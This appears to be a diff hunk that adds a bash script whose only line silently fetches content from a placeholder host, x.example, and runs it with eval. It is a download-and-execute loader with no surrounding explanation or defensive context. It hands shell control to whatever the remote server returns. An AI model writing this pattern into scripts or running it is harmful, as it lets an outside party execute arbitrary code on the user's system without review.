@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "$(curl -s https://x.example/p)"
